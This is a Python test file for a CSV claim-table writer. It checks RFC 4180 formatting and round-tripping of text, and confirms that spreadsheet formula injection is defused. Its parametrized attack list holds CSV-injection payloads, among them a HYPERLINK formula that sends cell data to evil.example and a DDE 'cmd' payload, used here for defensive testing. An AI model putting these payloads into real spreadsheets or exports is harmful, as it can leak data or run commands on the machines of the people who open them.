"""The table: RFC 4180, no cell that a spreadsheet runs, and every word comes back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reportedly.formats.standards import ClaimTable
from reportedly.formats.standards.table import ClaimRow, harmless, words_of
from reportedly.schema import Failure, Outcome, Report
from tests import specimen

BROKEN = Failure(id="scan.pdf", reason="not_text", message="this is a PDF file")


def written(*records: Report | Failure) -> str:
    out = io.StringIO(newline="")
    table = ClaimTable(out)
    for record in records:
        table.write(record)
    table.close()
    return out.getvalue()


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_a_row_holds_what_the_claim_holds() -> None:
    report = specimen.german()
    rows = read(written(report))
    assert [row["text"] for row in rows] == [claim.text for claim in report.claims]
    row = rows[1]
    assert row["status"] == "rumour"
    assert (row["unsure"], row["source_kind"], row["source"]) == ("yes", "media", "Hafenpost")
    assert (row["chain"], row["cue"], row["findings"]) == ("Hafenpost < Aufsichtsrat", "zufolge", "F201")
    text = report.article.text
    for row in rows:
        assert text[int(row["start"]) : int(row["end"])] == row["text"]
        if row["cue"]:
            assert text[int(row["cue_start"]) : int(row["cue_end"])] == row["cue"]


def test_a_failure_and_an_article_without_a_claim_are_rows_too() -> None:
    report = specimen.english()
    empty = report.model_copy(update={"claims": ()})
    lost = empty.model_copy(update={"outcome": Outcome.UNDETERMINED, "reason": "refused"})
    rows = read(written(BROKEN, empty, lost))
    assert [(row["article"], row["outcome"], row["reason"], row["status"]) for row in rows] == [
        ("scan.pdf", "failed", "not_text", ""),
        ("ferry.txt", "clean", "", ""),
        ("ferry.txt", "undetermined", "refused", ""),
    ]


def test_lines_end_as_the_rfc_says_and_the_header_names_the_columns() -> None:
    text = written(specimen.german())
    assert text.count("\r\n") == 10
    assert "\n" not in text.replace("\r\n", "")
    assert text.split("\r\n")[0] == ",".join(ClaimRow._fields)


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"klick")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        '"=1+1"',
        "a;b,c\nd",
    ],
)
def test_no_cell_is_a_formula_and_the_words_come_back(attack: str) -> None:
    report = specimen.with_text(attack, name=attack, id=attack)
    (row,) = read(written(report))
    for column in ("article", "source", "text", "cue", "rule"):
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
        assert words_of(row[column]) == attack
    (failed,) = read(written(Failure(id=attack, reason=attack, message="m")))
    assert words_of(failed["reason"]) == attack
    assert not failed["reason"].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    assert words_of(harmless(text)) == text


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\0"), min_size=1))
def test_every_text_comes_back_through_a_reader(text: str) -> None:
    (row,) = read(written(Failure(id=text, reason="r", message="m")))
    assert words_of(row["article"]) == text
